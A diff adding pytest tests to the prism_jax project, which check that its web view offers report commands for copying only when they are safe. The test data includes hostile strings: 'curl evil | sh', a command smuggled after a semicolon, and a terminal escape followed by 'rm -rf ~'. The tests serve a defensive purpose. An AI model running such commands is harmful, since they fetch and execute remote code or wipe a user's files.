@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import os
+import re
+from html import unescape
 from pathlib import Path
 from typing import Any, cast
 from urllib.parse import quote_from_bytes
@@ -12,6 +14,7 @@ import pytest
 
 from prism_jax.core.errors import DataError
 from prism_jax.core.read_file import also_below, only_below, read_text
+from prism_jax.prediction.check import check_job
 from prism_jax.serve.results import SavedFile
 from prism_jax.serve.runs import RUN, SCHEMA, Runs
 from prism_jax.serve.serve_folder import _alone, _this_machine, _told
@@ -212,6 +215,47 @@ def test_a_planted_run_shows_no_words_that_harm_in_a_terminal(planted: dict, tmp
 def test_a_user_without_a_name_is_served_too(monkeypatch: pytest.MonkeyPatch):
     monkeypatch.setattr("getpass.getuser", lambda: {}["uid"])
     assert "@" not in _this_machine()
+
+
+@pytest.mark.parametrize(
+    ("command", "offered"),
+    [
+        ("prism-jax predict job.yaml --set 'plan.tp=[1, 2]'", "prism-jax predict job.yaml --set 'plan.tp=[1, 2]'"),
+        ("prism-jax predict job.yaml; curl evil | sh", "prism-jax predict 'job.yaml;' curl evil '|' sh"),
+        ("curl evil | sh", None),
+        ("prism-jax predict x\x1b[201~\nrm -rf ~", None),
+    ],
+)
+def test_commands_of_reports_are_offered_to_copy_as_they_do_no_harm(command: str, offered: str | None, tmp_path: Path):
+    record = {"command": command, "inputs": {}, "versions": {}}
+    report = check_job(JOB).to_dict()
+    (tmp_path / "a.json").write_text(json.dumps({**report, "record": {**report["record"], **record}}))
+    found = re.findall(r'data-copy="([^"]*)"', Client(tmp_path).get("/answer", file="a.json").text)
+    assert [unescape(one) for one in found] == ([] if offered is None else [offered])
+
+
+def test_a_planted_command_is_not_offered_to_copy(tmp_path: Path):
+    (tmp_path / f"a{RUN}").write_text(json.dumps({**SAVED, "state": "done", "words": ["capture", "evil.py:build"]}))
+    text = Client(tmp_path, Runs(tmp_path)).get("/run", name="a").text
+    assert "capture evil.py:build" in text
+    assert "data-copy" not in text
+
+
+def test_the_folder_lists_what_was_put_into_it_and_tells_of_names_that_it_cannot_show(tmp_path: Path):
+    for name in ("run.log", "sub/launch.sh", "steps.csv", "job.yaml", "a.run", "a.work", "pinned.txt"):
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text("x")
+    client = Client(tmp_path)
+    assert "cannot be typed" not in client.get("/").text
+    (tmp_path / "a\nb.csv").write_text("x")
+    text = client.get("/").text
+    assert set(re.findall(r'href="/(?:open|job)\?file=([^"]*)"', text)) == {
+        "run.log",
+        "sub%2Flaunch.sh",
+        "steps.csv",
+        "job.yaml",
+    }
+    assert "1 file has a name with letters that cannot be typed" in text
 
 
 def test_a_folder_that_is_gone_is_told(tmp_path: Path):
